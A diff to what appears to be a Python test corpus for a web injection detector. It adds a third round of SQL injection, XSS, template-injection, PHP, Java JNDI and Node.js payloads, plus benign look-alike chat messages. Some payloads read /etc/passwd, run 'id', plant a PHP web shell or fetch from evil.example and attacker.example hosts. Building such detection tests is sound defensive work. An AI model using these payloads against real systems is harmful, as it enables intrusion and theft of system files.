@@ -522,6 +522,128 @@ NODE_2 = [
     "Object.getPrototypeOf({}).admin=true",
 ]
 
+# Round three, written after round two was fixed and measured before any rule change for it: scanner
+# probes, unterminated tags, entities without semicolons, polyglots, less common engines and directives.
+SQLI_3 = [
+    "if(now()=sysdate(),sleep(5),0)",
+    "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
+    "1 union(select(1),(2))",
+    "1\u00a0union\u00a0select\u00a01,2",
+    "1;show tables",
+    "'; SELECT lo_import('/etc/passwd')--",
+    "1 and current_user like 'root%'",
+    "-1' or 1=1 limit 1 offset 1-- ",
+    "1*if(1=1,1,0)",
+    "1 or 0x50=0x50",
+    "') or ('x')=('x",
+    "1 OR 'ab'='a'||'b'",
+    "' or username is not null or username = '",
+    "1 OR LENGTH(database())>0",
+    "SELECT * FROM users WHERE id = 1",
+    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'vRxe'='vRxe",
+    "1' WAITFOR TIME '23:59:59'--",
+    "1;EXEC('SEL'+'ECT 1')",
+    "CHAR(83)+CHAR(69)+CHAR(76)",
+    "%' and 1=1 and '%'='",
+    "1 or 1=1/*",
+    "1;DECLARE @x CHAR(9);SET @x=0x303a303a3130;WAITFOR DELAY @x--",
+    "1;SELECT/**/CAST(CHR(32)||(SELECT version()) AS NUMERIC)--",
+    "@@version",
+    "1 or 1 = 1 -- comment",
+    "1'; SELECT * FROM pg_stat_activity--",
+]
+
+XSS_3 = [
+    "<svg/onload=alert(1)//",
+    "<img src=x onerror=alert(1)//",
+    "<a href=javascript&#58alert(1)>x",
+    "<iframe src=javascript&colon;alert&lpar;1&rpar;>",
+    "<object type=text/x-scriptlet data=http://evil.example/x.sct>",
+    "<frameset onload=alert(1)>",
+    "<video poster=javascript:alert(1)//></video>",
+    "<form><button formaction=javascript&colon;alert(1)>X",
+    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
+    "<script src=data:,alert(1)></script>",
+    "<bgsound src=javascript:alert(1)>",
+    "<a href=\"  javascript:alert(1)\">x</a>",
+    "<a href=\"\\x01javascript:alert(1)\">x</a>",
+    "<div onmouseenter=alert(1)>",
+    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
+    "<img src=x onerror=location='javascript:alert(1)'>",
+    "<a href=java\nscript:alert(1)>x</a>",
+    "<img srcset=x onerror=alert(1)>",
+    "<div style=\"behavior:url(x.htc)\">",
+    "<div style=\"x:\\65xpression(alert(1))\">",
+    "<img src=x onerror=self[`al`+`ert`](1)>",
+    "<svg onload=eval(location.hash.slice(1))>",
+    "javascript:void(document.body.innerHTML='x')",
+    "<a href=\"vbscript:Execute(MsgBox(1))\">x</a>",
+    "<svg><set onbegin=alert(1) attributename=x to=1>",
+    "<style onload=alert(1)>",
+]
+
+SSTI_3 = [
+    "${{<%[%'\"}}%\\.",
+    "{{= 7*7 }}",
+    "{{dump(app)}}",
+    "{{app.request.query.filter(0,0,1024,{'options':'system'})}}",
+    "<#assign classloader=article.class.protectionDomain.classLoader>",
+    "#set($str=$class.inspect(\"java.lang.String\").type)",
+    "$x.class.forName('java.lang.Runtime')",
+    "{self::getStreamVariable(\"file:///etc/passwd\")}",
+    "{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('id') %}",
+    "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance()}}",
+    "@php system('id') @endphp",
+    "{{ .System \"id\" }}",
+    "{{define \"T1\"}}ONE{{end}}{{template \"T1\"}}",
+    "<%= %x(id) %>",
+    "{{ _self }}",
+    "{{ config }}",
+    "{{ messages.storages.0.signer.key }}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "{{'7'*7}}",
+    "{{ [].class.base.subclasses() }}",
+]
+
+PHP_3 = [
+    "${'_GET'}[0](${'_GET'}[1])",
+    "$$a($$b)",
+    "php://filter/resource=/etc/passwd",
+    "\\system('id');",
+    "array_map('ass'.'ert',array($_POST[x]))",
+    "imap_open('{x:143/imap}INBOX','','')",
+    "error_log('<?php system($_GET[0]);?>',3,'/var/www/shell.php')",
+    "copy('http://evil.example/x.txt','shell.php')",
+    "$_=[];$_=@\"$_\";$_=$_['!'=='@'];",
+    "(sy.(st).em)('id')",
+]
+
+JAVA_3 = [
+    "${${lower:${lower:jndi}}:ldap://x.example/a}",
+    "${jndi:ldap://[::1]:1389/a}",
+    "$%7Bjndi:ldap://x.example/a%7D",
+    "T(String).getClass().forName('java.lang.Runtime')",
+    "#{session.setAttribute(\"x\",\"y\")}",
+    "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A",
+    "ldap://attacker.example:1389/Basic/Command/Base64/aWQ=",
+    "${::-${::-$}{::-j}ndi:ldap://x.example/a}",
+    "#{T(java.lang.System).exit(0)}",
+    "${\"\".getClass().forName(\"java.lang.Runtime\")}",
+]
+
+NODE_3 = [
+    "require(['child','process'].join('_'))",
+    "process.openStdin()",
+    "\\u0072equire('fs').readFileSync('/etc/passwd')",
+    "'+require('os').hostname()+'",
+    "Array.from(process.argv)",
+    "process.stdout.write(process.version)",
+    "require('module')._load('child_process')",
+    "(function(){return this})().process.exit()",
+    "module.children[0].require('fs')",
+    "eval(\"process.exit()\")",
+]
+
 # Prototype pollution through query keys and JSON documents (whole-request placements).
 POLLUTION_QUERIES = [
     "__proto__[admin]=1",
@@ -544,9 +666,10 @@ POLLUTION_JSON: list[Any] = [
     [{"__proto__": {"toString": 1}}],
 ]
 
-FAMILIES = {"sqli": SQLI + SQLI_2, "xss": XSS + XSS_2, "ssti": SSTI + SSTI_2, "php": PHP + PHP_2,
-            "java": JAVA + JAVA_2, "nodejs": NODE + NODE_2}
-ROUND_2 = {p for lst in (SQLI_2, XSS_2, SSTI_2, PHP_2, JAVA_2, NODE_2) for p in lst}
+FAMILIES = {"sqli": SQLI + SQLI_2 + SQLI_3, "xss": XSS + XSS_2 + XSS_3, "ssti": SSTI + SSTI_2 + SSTI_3,
+            "php": PHP + PHP_2 + PHP_3, "java": JAVA + JAVA_2 + JAVA_3, "nodejs": NODE + NODE_2 + NODE_3}
+ROUNDS = {p: r for r, lists in ((2, (SQLI_2, XSS_2, SSTI_2, PHP_2, JAVA_2, NODE_2)),
+                                (3, (SQLI_3, XSS_3, SSTI_3, PHP_3, JAVA_3, NODE_3))) for lst in lists for p in lst}
 PLACES = ["query", "form", "json", "cookie", "header"]
 PARAMS = ["q", "id", "sort", "name", "comment", "template", "filter", "data", "message", "order"]
 
@@ -581,7 +704,7 @@ def attacks() -> Iterator[dict[str, Any]]:
                 place = PLACES[(i + k) % len(PLACES)]
                 n += 1
                 yield {**_place(place, PARAMS[(i + k) % len(PARAMS)], p), "id": f"mix-{family}-{n:04d}",
-                       "category": family, "sub": f"{family}/r{2 if p in ROUND_2 else 1}", "placement": place,
+                       "category": family, "sub": f"{family}/r{ROUNDS.get(p, 1)}", "placement": place,
                        "payload": p}
     for i, qs in enumerate(POLLUTION_QUERIES):
         for k, path in enumerate(("/api/users?", "/api/users?page=2&")):
@@ -642,6 +765,13 @@ SLACK_TEXTS = [
     "the {{name}} placeholder isn't replaced in the welcome mail",
     "1 or 2 people from each team, between 3 and 4 pm",
     "WAITFOR the release notes before announcing, please",
+    # round three
+    "if (now() > deadline) we ship anyway",
+    "show tables at the event: 12, ask Maria",
+    "Scheduling: Mon-Wed 9-5, Thu off; lunch @ 12",
+    "the \\system folder on the share is read-only",
+    "process: 1) apply 2) interview 3) offer",
+    "copy the config from staging, then restart",
 ]
 
 SEARCHES = [
